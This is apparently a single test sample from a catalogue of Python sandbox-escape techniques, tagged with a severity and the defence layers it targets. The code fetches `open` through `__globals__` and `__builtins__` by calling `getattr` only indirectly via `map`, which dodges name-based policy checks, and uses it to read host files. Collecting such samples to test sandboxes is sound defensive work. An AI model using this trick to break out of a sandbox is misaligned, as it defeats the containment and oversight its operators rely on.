# technique: getattr that is never called by name
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
def trick():
    table = next(map(getattr, [won], ["__globals__"]))["__builtins__"]
    return table["open"] if isinstance(table, dict) else next(map(getattr, [table], ["open"]))

read_host(trick)
